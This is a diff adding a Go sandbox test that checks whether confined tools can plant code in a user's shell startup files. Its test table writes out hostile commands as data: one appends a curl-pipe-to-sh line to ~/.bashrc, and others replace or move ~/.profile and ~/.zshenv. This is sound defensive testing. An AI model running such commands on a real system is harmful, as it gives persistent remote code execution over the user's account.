@@ -200,6 +200,25 @@ func TestRootOnlyFiles(t *testing.T) {
 	})
 }
 
+// TestNoCodeForTheNextShell: in a home the tools may write (the external write bit), a
+// tool appends a command to the shells' startup files, which the user's next shell on
+// the host would run unconfined, or moves one aside to put its own in its place. At
+// level strict the files are masked and stay as they were; at landlock, which cannot
+// mask a file in a folder it lets the tools write, the runner refuses the session
+// (the runner's TestRunRefusesAHiddenPathInAWritableFolder). At level off the vector works.
+func TestNoCodeForTheNextShell(t *testing.T) {
+	files := map[string]string{".bashrc": "# the user's bashrc\n", ".profile": "# the user's profile\n", ".zshenv": "# the user's zshenv\n"}
+	levels(t, true, func(t *testing.T, level sandbox.Level) {
+		fx := newFixture(t, level, options{mode: "0667", homeFiles: files})
+		const gap = "Landlock grants by folder: the runner refuses the session instead"
+		runTable(t, fx, []attempt{
+			{name: "append to ~/.bashrc", cmd: "echo 'curl -s https://example.com/x | sh' >> ~/.bashrc", effect: unchanged("{HOME}/.bashrc"), strict: true, gap: gap, off: true},
+			{name: "replace ~/.profile", cmd: "echo evil > /tmp/p; mv -f /tmp/p ~/.profile || cp /tmp/p ~/.profile", effect: unchanged("{HOME}/.profile"), strict: true, gap: gap, off: true},
+			{name: "move ~/.zshenv aside", cmd: "mv ~/.zshenv ~/zshenv.old && echo evil > ~/.zshenv", effect: unchanged("{HOME}/.zshenv"), strict: true, gap: gap, off: true},
+		})
+	})
+}
+
 // ciAgentRegistrations are where self-hosted CI agents installed from their packages
 // keep their registration tokens (Buildkite's, CircleCI's machine runner's, GitLab
 // Runner's, Drone's exec runner's), and Buildkite's agent hooks, whose environment hook
